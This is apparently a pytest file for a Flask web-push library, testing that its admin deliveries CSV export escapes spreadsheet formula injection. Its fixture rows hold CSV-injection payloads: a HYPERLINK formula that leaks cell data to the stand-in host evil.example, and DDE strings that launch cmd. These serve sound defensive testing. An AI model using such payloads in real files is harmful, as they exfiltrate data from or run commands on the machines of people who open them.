"""The deliveries CSV is safe to open in a spreadsheet: no text cell runs as a formula.

Labels are typed by customers (through the real subscriptions route), reasons and
click actions stand for what push services and browsers send. The export is read
through the admin route and parsed back with the csv module. Runs on SQLite and
on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from conftest import LoggedInClient, make_subscription
from flask import Flask

from flask_webpush_targeted import WebPush
from flask_webpush_targeted.models import utcnow
from flask_webpush_targeted.spreadsheet import safe_cell, safe_row

#: what a spreadsheet runs as a formula at the start of a cell (OWASP, and full-width signs)
FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'
#: user id, device label, status code, reason, click action of each delivery
ROWS = [
    ("+4915112345678", HYPERLINK, 201, None, "=cmd|' /C calc'!A0"),
    ("1", "Laptop, kitchen", 400, "@SUM(1+1)*cmd|' /C calc'!A0", None),
    ("2", 'My "work" phone', 500, "+1+cmd|' /C calc'!A0", "-2+3"),
    ("3", "@home tablet", 410, "-1+1", "\r=1+1"),
    ("4", "\uff1dHYPERLINK(\"https://evil.example\")", -1, "\n=1+1", "safe action"),
    ("=1+1", "\t=1+1", 429, "\t@SUM(A1)", None),
]


def export(app: Flask, webpush: WebPush) -> tuple[list[str], list[dict[str, str]], str]:
    """A notification with ROWS' deliveries, exported through the admin route."""
    webpush.stats_access(lambda user: bool(user.is_admin))
    m, db = webpush.models, webpush.db
    devices = {}
    for user_id, label, *_ in ROWS:
        customer = LoggedInClient(app, user_id) if user_id in ("1", "2", "3") else None
        if customer is not None:  # a customer typing a label, through the real route
            response = customer.subscribe(make_subscription(), device_label=label)
            assert response.status_code == 201, response.get_data(as_text=True)
            devices[user_id] = response.get_json()["id"]
    with app.app_context():
        for user_id, label, *_ in ROWS:
            if user_id not in devices:  # users the test host cannot log in: stored directly
                s = make_subscription()
                sub = m.Subscription(user_id=user_id, p256dh=s["keys"]["p256dh"],
                                     auth=s["keys"]["auth"], label=label, consent_version="1")
                sub.set_endpoint(s["endpoint"])
                db.session.add(sub)
                db.session.flush()
                devices[user_id] = sub.id
        n = m.Notification(payload={"title": "Sale", "body": "b", "url": "/"},
                           targeting={"user_ids": [r[0] for r in ROWS], "devices": "all"},
                           ttl=3600, status="done")
        db.session.add(n)
        db.session.flush()
        for user_id, _label, code, reason, action in ROWS:
            db.session.add(m.Delivery(notification_id=n.id, subscription_id=devices[user_id],
                                      user_id=user_id, status="sent" if code == 201 else "failed",
                                      status_code=code, reason=reason, attempts=1,
                                      sent_at=utcnow(), clicked_at=utcnow() if action else None,
                                      action=action))
        db.session.commit()
        nid = n.id
    response = LoggedInClient(app, "9").http.get(
        f"/webpush/admin/notifications/{nid}/deliveries.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames or []), list(reader), text


def test_text_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_a_quote(
        app: Flask, webpush: WebPush) -> None:
    fields, rows, _text = export(app, webpush)
    assert {"user_id", "device", "reason", "action", "status_code"} <= set(fields)
    by_user = {r["user_id"].lstrip("'"): r for r in rows}
    assert len(by_user) == len(ROWS)
    for user_id, label, code, reason, action in ROWS:
        row = by_user[user_id]
        for column, value in (("user_id", user_id), ("device", label), ("reason", reason),
                              ("action", action)):
            dangerous = value is not None and value.startswith(FORMULA)
            expected = "" if value is None else ("'" + value if dangerous else value)
            assert row[column] == expected, (column, value, row[column])
        # numbers stay numbers, even a negative one: no quote in a numeric column
        assert row["status_code"] == str(code)
    # fields with the separator or quotes are quoted, and read back whole
    assert by_user["1"]["device"] == "Laptop, kitchen"
    assert by_user["2"]["device"] == 'My "work" phone'


def test_no_cell_of_the_export_begins_with_a_formula_character(
        app: Flask, webpush: WebPush) -> None:
    _fields, rows, _text = export(app, webpush)
    cells = [value for row in rows for column, value in row.items()
             if column not in ("status_code", "id", "subscription_id", "attempts")]
    assert cells and not [c for c in cells if c.startswith(FORMULA)]


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"), ("\uff20A1", "'\uff20A1"), ("", ""), ("Firefox on Linux",
    "Firefox on Linux"), ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1"),
])
def test_safe_cell_follows_owasps_rule(text: str, safe: str) -> None:
    assert safe_cell(text) == safe


def test_safe_row_touches_only_text() -> None:
    row: dict[str, Any] = {"count": -3, "ratio": -0.5, "none": None, "label": "-3"}
    assert safe_row(row) == {"count": -3, "ratio": -0.5, "none": None, "label": "'-3"}
